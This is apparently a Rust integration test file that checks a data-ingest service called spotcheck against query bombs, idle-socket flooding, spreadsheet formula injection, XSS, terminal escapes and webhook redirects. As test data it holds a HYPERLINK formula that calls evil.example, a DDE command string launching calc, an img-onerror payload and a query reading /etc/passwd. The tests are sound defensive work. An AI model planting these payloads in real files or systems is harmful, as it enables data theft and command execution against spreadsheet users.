//! Nothing one analyst, one client or one posted name does can stop `spotcheck up` or reach
//! the people who open its exports: queries too deep or too large are refused or cut while ingest
//! keeps taking records; sockets that never log in cannot crowd out real clients; names that
//! look like formulas leave as text; a stage that stops takes the process down with a reason.

mod support;

use std::io::Read;
use std::time::{Duration, Instant};
use support::Up;

fn http() -> reqwest::blocking::Client {
    reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap()
}

fn sql(up: &Up, query: &str) -> reqwest::blocking::Response {
    http()
        .post(up.url("/v1/sql"))
        .bearer_auth(up.token("analyst"))
        .json(&serde_json::json!({ "sql": query }))
        .send()
        .unwrap()
}

/// Posts one record as `role` to `route`; the response.
fn post(
    up: &Up,
    route: &str,
    role: &str,
    record: &serde_json::Value,
) -> reqwest::blocking::Response {
    http()
        .post(up.url(route))
        .bearer_auth(up.token(role))
        .json(record)
        .send()
        .unwrap()
}

/// Waits until `count_sql` (a `count(*) AS n`) answers `n`.
fn wait_for_count(up: &Up, count_sql: &str, n: u64) {
    let started = Instant::now();
    while sql(up, count_sql).json::<serde_json::Value>().unwrap()[0]["n"] != n {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "{count_sql} never reached {n}"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

/// One result posted now answers 202: ingest is alive and publishing.
fn ingest_takes_a_result(up: &Up, report_no: &str) {
    let response = post(up, "/v1/results", "lab", &support::result(report_no));
    assert_eq!(response.status(), 202, "{}", response.text().unwrap());
}

async fn pg_client(up: &Up) -> tokio_postgres::Client {
    let (host, port) = up.pg.split_once(':').unwrap();
    let token = up.token("analyst");
    let config =
        format!("host={host} port={port} user=dev-analyst password={token} dbname=spotcheck");
    let (client, connection) = tokio_postgres::connect(&config, tokio_postgres::NoTls)
        .await
        .unwrap();
    tokio::spawn(connection);
    client
}

fn pg_error_code(error: &tokio_postgres::Error) -> String {
    error.as_db_error().map_or_else(
        || error.to_string(),
        |e| format!("{} {}", e.code().code(), e.message()),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_query_nested_five_thousand_deep_is_refused_on_every_front_end_and_nothing_stops() {
    let dir = tempfile::tempdir().unwrap();
    let mut up = tokio::task::block_in_place(|| Up::start(&dir.path().join("spotcheck")));
    let chain = format!("SELECT {}", vec!["1"; 5_000].join("+"));

    let response = tokio::task::block_in_place(|| sql(&up, &chain));
    assert_eq!(response.status(), 400);
    let body: serde_json::Value = tokio::task::block_in_place(|| response.json().unwrap());
    let message = body["error"].as_str().unwrap();
    assert!(message.contains("too complex"), "{message}");
    assert!(message.contains("256 levels"), "{message}");

    let client = pg_client(&up).await;
    let simple = client.simple_query(&chain).await.expect_err("refused");
    assert!(pg_error_code(&simple).starts_with("54001"), "{simple:?}");
    // The extended protocol (prepared statements) parses and plans in the library.
    let prepared = client.query(&chain, &[]).await.expect_err("refused");
    assert!(
        pg_error_code(&prepared).starts_with("54001"),
        "{prepared:?}"
    );
    let too_long = format!("SELECT 1 -- {}", "x".repeat(70_000));
    let long = client.simple_query(&too_long).await.expect_err("refused");
    let long = pg_error_code(&long);
    assert!(
        long.starts_with("54001") && long.contains("65536-byte limit"),
        "{long}"
    );

    // Nothing died: the process, SQL and ingest all answer.
    assert!(up.running(), "{}", up.log_text());
    let rows = client.simple_query("SELECT 1+1 AS two").await.unwrap();
    assert!(
        rows.iter()
            .any(|m| matches!(m, tokio_postgres::SimpleQueryMessage::Row(_)))
    );
    tokio::task::block_in_place(|| {
        assert_eq!(sql(&up, "SELECT 1+1 AS two").status(), 200);
        ingest_takes_a_result(&up, "HARD-DEPTH-1");
    });
}

#[test]
fn a_trillion_row_answer_streams_within_the_pool_and_ends_saying_it_was_cut() {
    let dir = tempfile::tempdir().unwrap();
    let pool_mib = 256;
    let max_rows = 2_000_000u64;
    let mut up = Up::start_configured(
        &dir.path().join("spotcheck"),
        &format!("[sql]\nmemory_mib = {pool_mib}\nmax_rows = {max_rows}\n"),
        &[],
    );
    let before = up.resident_bytes().unwrap();
    // A stated margin over the pool: encoders, the HTTP buffers, allocator slack.
    let ceiling = before + (pool_mib + 256) * 1024 * 1024;

    let started = Instant::now();
    let mut response = sql(&up, "SELECT * FROM range(1000000000000)");
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["spotcheck-max-rows"].to_str().unwrap(),
        max_rows.to_string()
    );
    let mut first = [0u8; 64];
    let n = response.read(&mut first).unwrap();
    assert!(
        n > 0 && first.starts_with(b"[{\"value\":0}"),
        "{:?}",
        &first[..n]
    );
    let first_bytes_after = started.elapsed();

    let mut received = first[..n].to_vec();
    let mut chunk = vec![0u8; 1 << 16];
    let mut peak = before;
    loop {
        match response.read(&mut chunk) {
            Ok(0) => break,
            Ok(n) => received.extend_from_slice(&chunk[..n]),
            Err(error) => panic!("the cut answer still arrives whole: {error}"),
        }
        peak = peak.max(up.resident_bytes().unwrap_or(0));
        assert!(
            peak < ceiling,
            "the process grew to {} MiB (started at {} MiB, pool {pool_mib} MiB)",
            peak >> 20,
            before >> 20
        );
    }
    let tail = String::from_utf8_lossy(&received[received.len().saturating_sub(300)..]);
    assert!(
        tail.contains(&format!(
            "\"error: the answer was cut after {max_rows} rows"
        )),
        "{tail}"
    );
    assert!(
        serde_json::from_slice::<serde_json::Value>(&received).is_err(),
        "a cut answer must not parse as a whole one"
    );
    let rows = received.iter().filter(|b| **b == b'{').count() as u64;
    assert_eq!(rows, max_rows, "every row up to the limit");
    eprintln!(
        "first bytes after {first_bytes_after:?}; peak resident {} MiB from {} MiB",
        peak >> 20,
        before >> 20
    );

    // A value-building function cannot allocate past its bound.
    let response = sql(&up, "SELECT length(repeat('x', 2000000000))");
    assert_eq!(response.status(), 422);
    let message = response.text().unwrap();
    assert!(message.contains("more than the 64 MiB"), "{message}");
    assert!(up.running());
    ingest_takes_a_result(&up, "HARD-ROWS-1");
}

/// Opens `n` connections to `address` that never send a byte.
fn silent_sockets(address: &str, n: usize) -> Vec<std::net::TcpStream> {
    (0..n)
        .map(|_| std::net::TcpStream::connect(address).unwrap())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hundred_silent_sockets_on_each_port_do_not_shut_out_a_real_client() {
    let dir = tempfile::tempdir().unwrap();
    let up = tokio::task::block_in_place(|| {
        Up::start_configured(
            &dir.path().join("spotcheck"),
            "[limits]\nmax_connections = 64\nheader_timeout_secs = 3\n\n\
             [sql]\nmax_connections = 64\n",
            &[],
        )
    });
    let http_address = up.url("").trim_start_matches("http://").to_owned();
    let _http_silent = silent_sockets(&http_address, 100);
    let _pg_silent = silent_sockets(&up.pg, 100);

    // A real client on each port, still within the slots 100 silent sockets tried to take.
    let started = Instant::now();
    let client = pg_client(&up).await;
    let rows = client.simple_query("SELECT 1 AS one").await.unwrap();
    assert!(
        rows.iter()
            .any(|m| matches!(m, tokio_postgres::SimpleQueryMessage::Row(_)))
    );
    eprintln!("Postgres client served after {:?}", started.elapsed());
    let started = Instant::now();
    tokio::task::block_in_place(|| {
        let response = sql(&up, "SELECT 1 AS one");
        assert_eq!(response.status(), 200, "{}", response.text().unwrap());
        ingest_takes_a_result(&up, "HARD-CONN-1");
    });
    eprintln!("HTTP client served after {:?}", started.elapsed());

    // A request head trickled and never finished is closed at the header deadline.
    tokio::task::block_in_place(|| {
        use std::io::Write;
        let mut trickle = std::net::TcpStream::connect(&http_address).unwrap();
        trickle
            .write_all(b"GET /v1/cases HTTP/1.1\r\nHost: x\r\n")
            .unwrap();
        trickle
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        let mut buffer = [0u8; 256];
        let read = trickle.read(&mut buffer);
        assert!(
            matches!(read, Ok(0))
                || matches!(&read, Ok(n) if buffer[..*n].starts_with(b"HTTP/1.1 408")),
            "the trickling connection was not closed: {read:?}"
        );
    });
}

#[test]
fn names_that_spreadsheets_would_run_leave_the_exports_as_text() {
    use support::flows::{days_ago, uscc};
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("spotcheck");
    let up = Up::start(&data);
    let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"click")"#;
    let command = "-2+3+cmd|' /C calc'!A0";
    let shipment = serde_json::json!({
        "shipment_id": "S-FORMULA-1", "category": "e_bike",
        "product": {"producer_name": "津电动车制造有限公司", "model": "TDR-9", "batch": "B-F1"},
        "from": {"uscc": uscc("120116", 1), "name": formula},
        "to": {"uscc": uscc("120101", 2), "name": command},
        "quantity": 5, "unit": "pcs", "shipped_on": days_ago(30)
    });
    assert_eq!(
        post(&up, "/v1/shipments", "ledger", &shipment).status(),
        202
    );
    wait_for_count(&up, "SELECT count(*) AS n FROM shipments", 1);
    let batch = "津电动车制造有限公司/TDR-9/B-F1";
    let export = |raw: bool| {
        let mut command = std::process::Command::new(support::BIN);
        command.args(["trace-export", "--data-dir", data.to_str().unwrap()]);
        command.args(["--batch", batch, "--format", "csv"]);
        if raw {
            command.arg("--raw");
        }
        let output = command.output().unwrap();
        assert!(output.status.success(), "{output:?}");
        let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
        let headers = reader.headers().unwrap().clone();
        let row = reader.records().next().unwrap().unwrap();
        let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
        (cell("from_name"), cell("to_name"))
    };
    assert_eq!(
        export(false),
        (format!("'{formula}"), format!("'{command}"))
    );
    assert_eq!(export(true), (formula.to_owned(), command.to_owned()));
    let body = http()
        .get(up.url(&format!("/v1/trace-export?batch={batch}&format=csv")))
        .bearer_auth(up.token("admin"))
        .send()
        .unwrap()
        .text()
        .unwrap();
    assert!(
        body.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))),
        "{body}"
    );
    assert!(
        !body.contains(&format!(",\"{}", formula.replace('"', "\"\""))),
        "{body}"
    );

    // The quarterly report: its CSVs and its Markdown carry the names as text.
    let mut result = support::flows::final_result("HARD-FORMULA-1", "fail");
    result["items"] = serde_json::json!([
        {"name": formula, "verdict": "fail"},
        {"name": "<img src=x onerror=alert(1)>", "verdict": "fail"}
    ]);
    let response = post(&up, "/v1/results", "lab", &result);
    assert_eq!(response.status(), 202, "{}", response.text().unwrap());
    wait_for_count(&up, "SELECT count(*) AS n FROM result_items", 2);
    let sampled =
        chrono::NaiveDate::parse_from_str(result["sampling"]["date"].as_str().unwrap(), "%Y-%m-%d")
            .unwrap();
    use chrono::Datelike;
    let quarter = format!("{}Q{}", sampled.year(), (sampled.month() - 1) / 3 + 1);
    let out = dir.path().join("report");
    let output = std::process::Command::new(support::BIN)
        .args([
            "report",
            "--data-dir",
            data.to_str().unwrap(),
            "--quarter",
            &quarter,
        ])
        .args(["--out", out.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let markdown = std::fs::read_to_string(out.join("report.md")).unwrap();
    assert!(markdown.contains("&lt;img src=x"), "{markdown}");
    assert!(!markdown.contains("<img"), "{markdown}");
    let csvs: String = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "csv"))
        .map(|p| std::fs::read_to_string(p).unwrap())
        .collect();
    assert!(csvs.contains("\"'=HYPERLINK("), "{csvs}");
    assert!(
        !csvs.contains(",\"=HYPERLINK(") && !csvs.contains("\n\"=HYPERLINK("),
        "{csvs}"
    );
}

#[test]
fn a_stage_that_stops_takes_the_process_down_with_its_reason() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("spotcheck");
    let mut up = Up::start(&data);
    ingest_takes_a_result(&up, "HARD-STOP-1");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let location = spotcheck_lake::LakeLocation::local(&data.join("lake")).unwrap();
    let committed = || {
        runtime.block_on(async {
            let table = spotcheck_lake::delta::open_or_create(&location, "results")
                .await
                .unwrap();
            table.get_file_uris().unwrap().count()
        })
    };
    let started = Instant::now();
    while committed() == 0 {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "the lake wrote nothing"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    // Another writer (a second `up` on the same lake, say) commits every partition of the
    // results topic on: the lake stage must stop rather than write over it.
    runtime.block_on(async {
        let mut table = spotcheck_lake::delta::open_or_create(&location, "results")
            .await
            .unwrap();
        let theirs: std::collections::HashMap<String, i64> = (0..12)
            .map(|p| {
                let id = spotcheck_lake::delta::app_id("results", "spotcheck.results.v1", p);
                (id, 1000)
            })
            .collect();
        spotcheck_lake::delta::append(&mut table, "results", Vec::new(), &theirs)
            .await
            .unwrap();
    });
    ingest_takes_a_result(&up, "HARD-STOP-2");
    let status = up
        .exit_within(Duration::from_secs(90))
        .unwrap_or_else(|| panic!("the process kept running:\n{}", up.log_text()));
    assert!(!status.success(), "{status}");
    let log = up.log_text();
    assert!(log.contains("lake stopped"), "{log}");
    assert!(log.contains("another lake writer"), "{log}");
}

#[test]
fn webhooks_do_not_follow_redirects_and_small_edges_answer_as_the_contract_says() {
    use support::flows::final_result;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let elsewhere_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let hook_hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let elsewhere = runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let elsewhere_address = elsewhere.local_addr().unwrap();
    let hits = elsewhere_hits.clone();
    runtime.spawn(async move {
        let app = axum::Router::new().fallback(move || {
            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            async { "stolen" }
        });
        axum::serve(elsewhere, app).await.unwrap();
    });
    let hook = runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let hook_port = hook.local_addr().unwrap().port();
    let hits = hook_hits.clone();
    runtime.spawn(async move {
        let app = axum::Router::new().fallback(move || {
            hits.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            async move {
                (
                    axum::http::StatusCode::FOUND,
                    [("location", format!("http://{elsewhere_address}/stolen"))],
                )
            }
        });
        axum::serve(hook, app).await.unwrap();
    });

    let dir = tempfile::tempdir().unwrap();
    let up = Up::start_configured(
        &dir.path().join("spotcheck"),
        &format!(
            "[traceback.periods]\nobjection_days = 0\n\n[[credit.webhook]]\n\
             url = \"http://127.0.0.1:{hook_port}/hook\"\nsecret = \"s\"\n"
        ),
        &[],
    );
    let response = post(
        &up,
        "/v1/results",
        "lab",
        &final_result("HARD-HOOK-1", "fail"),
    );
    assert_eq!(response.status(), 202);
    let started = Instant::now();
    while hook_hits.load(std::sync::atomic::Ordering::SeqCst) < 2 {
        assert!(
            started.elapsed() < Duration::from_secs(90),
            "no retried delivery"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(
        elsewhere_hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the signed disclosure followed the redirect"
    );
    assert!(up.log_text().contains("redirects are not followed"));

    // A bad query string is the API's JSON error, not plain text.
    let response = http()
        .get(up.url("/v1/disclosures?limit=many"))
        .bearer_auth(up.token("feed"))
        .send()
        .unwrap();
    assert_eq!(response.status(), 400);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/json")
    );
    assert!(response.json::<serde_json::Value>().unwrap()["error"].is_string());
    // File paths as tables are refused as docs/lake-and-sql.md says: 403.
    let response = sql(&up, "SELECT * FROM '/etc/passwd'");
    assert_eq!(response.status(), 403);
    // Absurd numbers and dates are refused with the field named.
    let mut shipment = serde_json::json!({
        "shipment_id": "S-BIG", "category": "e_bike",
        "product": {"producer_name": "津电动车制造有限公司", "model": "TDR-9", "batch": "B1"},
        "from": {"uscc": support::flows::uscc("120116", 1), "name": "甲"},
        "to": {"uscc": support::flows::uscc("120101", 2), "name": "乙"},
        "quantity": 12, "unit": "pcs", "shipped_on": support::flows::days_ago(3)
    });
    for (field, absurd) in [
        ("quantity", serde_json::json!(1.2e59)),
        ("shipped_on", serde_json::json!("0000-01-01")),
    ] {
        let mut refused = shipment.clone();
        refused[field] = absurd;
        let response = post(&up, "/v1/shipments", "ledger", &refused);
        assert_eq!(response.status(), 422);
        let body: serde_json::Value = response.json().unwrap();
        assert_eq!(body["errors"][0]["field"], field, "{body}");
    }
    shipment["shipment_id"] = serde_json::json!("S-FINE");
    assert_eq!(
        post(&up, "/v1/shipments", "ledger", &shipment).status(),
        202
    );
}

#[test]
fn the_sql_table_escapes_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let output = std::process::Command::new(support::BIN)
        .args([
            "sql",
            "--data-dir",
            dir.path().to_str().unwrap(),
            "--format",
            "table",
        ])
        .arg("SELECT chr(27) || ']0;owned' || chr(7) || '燃气灶' AS name")
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let table = String::from_utf8(output.stdout).unwrap();
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}'),
        "{table:?}"
    );
    assert!(table.contains("\\u{1b}]0;owned\\u{7}燃气灶"), "{table}");
}

#[test]
fn an_idle_up_that_rests_takes_the_next_result_at_once() {
    // Resting consumers are woken only by this process's own writes here (the timed wake is an
    // hour away): a result posted after the stages went to rest must still reach the lake.
    let dir = tempfile::tempdir().unwrap();
    let up = Up::start_configured(
        &dir.path().join("spotcheck"),
        "[kafka]\nrest_when_idle_secs = 3600\n",
        &[],
    );
    ingest_takes_a_result(&up, "HARD-REST-1");
    wait_for_count(&up, "SELECT count(*) AS n FROM results", 1);
    // The consumers pause after 2 s without records: wait until every stage says it rests.
    let resting = || -> usize {
        let text = http()
            .get(up.url("/metrics"))
            .send()
            .unwrap()
            .text()
            .unwrap();
        text.lines()
            .filter(|l| l.starts_with("spotcheck_consumer_resting{") && l.ends_with(" 1"))
            .count()
    };
    let started = Instant::now();
    while resting() < 3 {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "the stages never rested"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
    ingest_takes_a_result(&up, "HARD-REST-2");
    wait_for_count(&up, "SELECT count(*) AS n FROM results", 2);
}
